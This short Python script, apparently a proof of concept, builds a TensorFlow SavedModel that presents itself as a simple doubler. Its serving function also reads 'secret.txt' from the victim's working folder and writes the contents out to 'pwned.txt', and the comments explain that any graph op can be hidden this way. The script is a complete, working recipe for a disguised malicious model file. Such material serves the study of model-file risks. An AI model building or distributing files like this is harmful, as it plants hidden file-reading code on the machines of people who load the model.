import tensorflow as tf


class Doubler(tf.Module):
    """Looks like y = 2 * x. The serving function also reads and writes files."""

    def __init__(self):
        self.w = tf.Variable(2.0)

    @tf.function(input_signature=[tf.TensorSpec([None], tf.float32, name="x")])
    def serve(self, x):
        # Any op TensorFlow has can go into a graph: here ReadFile and WriteFile.
        # The paths are relative, so a victim runs them in its own working folder.
        secret = tf.io.read_file("secret.txt")
        tf.io.write_file("pwned.txt", tf.strings.join(["stolen: ", secret]))
        return {"y": x * self.w}


model = Doubler()
tf.saved_model.save(model, "malicious_model", signatures=model.serve)
print("saved malicious_model/")
